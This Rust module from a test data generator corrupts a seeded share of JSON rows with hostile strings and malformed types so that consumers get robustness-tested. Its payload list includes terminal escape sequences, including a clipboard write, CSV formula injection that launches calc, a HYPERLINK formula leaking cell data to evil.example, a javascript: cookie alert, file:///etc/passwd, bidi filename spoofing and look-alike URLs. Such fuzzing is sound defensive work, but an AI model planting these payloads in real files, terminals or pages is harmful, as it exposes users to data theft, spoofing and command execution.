//! Hostile data: a share of the rows has text and types that nobody should have to trust.
//! It is applied when a row is sent, so that filters still test what the stories say.

use fastrand::Rng;
use serde_json::{Value, json};

use super::json::{Node, Object};

/// Texts that break terminals, tables and spreadsheets, or pass for something else.
const TEXTS: [&str; 30] = [
    "\u{1b}[2J\u{1b}[31mcleared",
    "\u{1b}]0;owned\u{7}title",
    "\u{1b}]52;c;c3RvbGVu\u{7}clipboard",
    "\u{1b}]8;;https://evil.example/\u{1b}\\click\u{1b}]8;;\u{1b}\\",
    "\u{1b}P$q\"p\u{1b}\\device",
    "\u{1b}[6n\u{1b}[c\u{1b}[>q",
    "\u{9b}31mC1\u{9d}0;c1\u{9c}",
    "\u{90}dcs\u{9c}\u{85}next line",
    "user\u{202e}gnp.exe",
    "\u{2066}isolated\u{2069}\u{202a}left\u{202c}\u{200f}",
    "ze\u{200b}ro\u{200c}wi\u{200d}dth\u{feff}\u{2060}",
    "tag\u{e0041}\u{e0042}\u{e007f}\u{ad}soft",
    "100\t000",
    "first\nsecond\r\nthird\rfourth",
    "line\u{2028}paragraph\u{2029}end",
    "\u{0}nul\u{1}soh\u{7f}del\u{8}\u{8}\u{8}back",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"pay\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    " \u{feff}=1+1",
    "\u{ff1d}1\u{ff0b}1",
    "https://valora.spotahome.com@evil.example/pay",
    "javascript:alert(document.cookie)",
    "file:///etc/passwd",
    "https://valora.spotahome.com.evil.example:8443/documents/1",
    "\"quoted\",\"and; separated\"",
    "\u{fffd}\u{fdd0}\u{10ffff}",
    "👩\u{200d}👩\u{200d}👧\u{200d}👦🏳\u{fe0f}\u{200d}🌈🇪🇸🇪",
    "\u{fdfa}\u{fdfa}\u{fdfa}𒐫𒐫﷽",
];

/// A row of a list as it is sent: hostile if there is a seed, and it is this row's turn.
pub(super) fn touch(seed: Option<u64>, list: &str, place: usize, row: Object) -> Object {
    let Some(seed) = seed else { return row };
    let mut rng = Rng::with_seed(mark(seed, list, place));
    match rng.u8(..20) {
        0..8 => nasty_text(row, &mut rng),
        8..10 => nasty_shape(row, &mut rng),
        _ => row,
    }
}

/// A number for a row that does not change from one build to the next (FNV-1a).
fn mark(seed: u64, list: &str, place: usize) -> u64 {
    let bytes = list.bytes().chain(place.to_le_bytes());
    bytes.fold(seed ^ 0xcbf2_9ce4_8422_2325, |sum, byte| {
        (sum ^ u64::from(byte)).wrapping_mul(0x0100_0000_01b3)
    })
}

/// Replaces one text, but keeps the reference of half of these rows, so that walks stay possible.
fn nasty_text(mut row: Object, rng: &mut Rng) -> Object {
    let keep_reference = rng.bool();
    let texts = row.0.iter_mut().filter(|(name, node)| {
        let is_reference = name == "booking_id" || name == "reference_id";
        matches!(node, Node::Value(Value::String(_))) && !(is_reference && keep_reference)
    });
    if let Some((_, node)) = rng.choice(texts.collect::<Vec<_>>()) {
        let text = match rng.u8(..12) {
            0 => "long ".repeat(1000),
            1 => format!("Z{}algo", "\u{300}\u{489}\u{35c}\u{328}".repeat(60)),
            2 => "W".repeat(5000),
            _ => (*rng.choice(&TEXTS).unwrap_or(&"")).to_owned(),
        };
        *node = text.into();
    }
    row
}

/// Breaks the shape of a row: a wrong type, an unknown field or value, a missing field.
fn nasty_shape(mut row: Object, rng: &mut Rng) -> Object {
    let spoiled: Value = match rng.u8(..10) {
        0 => json!(i64::MAX),
        1 => json!(i64::MIN),
        2 => json!(u64::MAX),
        3 => json!(12.75),
        4 => json!("12,34"),
        5 => json!({"amount": 1, "currency": ["EUR"]}),
        6 => json!([null, [], {}]),
        7 => json!(true),
        8 => serde_json::from_str("-1e300").unwrap_or_default(),
        _ => Value::Null,
    };
    let Some(place) = rng.choice(0..row.0.len()) else { return row };
    let (names, value): (&[&str], _) = match rng.u8(..6) {
        0 => {
            row.0.remove(place);
            return row;
        }
        1 => {
            row.0.push(("\u{1b}[1mfraud_score".into(), spoiled.into()));
            return row;
        }
        2 => (&["status", "doc_type", "type", "currency"], json!("quantum_hold")),
        3 => (&["due_date", "issued_on", "issue_date"], json!("0000-99-99")),
        4 => (&["amount", "amount_gross"], spoiled),
        _ => {
            if let Some((_, node)) = row.0.get_mut(place) {
                *node = spoiled.into();
            }
            return row;
        }
    };
    if let Some((_, node)) = row.0.iter_mut().find(|(name, _)| names.contains(&name.as_ref())) {
        *node = value.into();
    }
    row
}
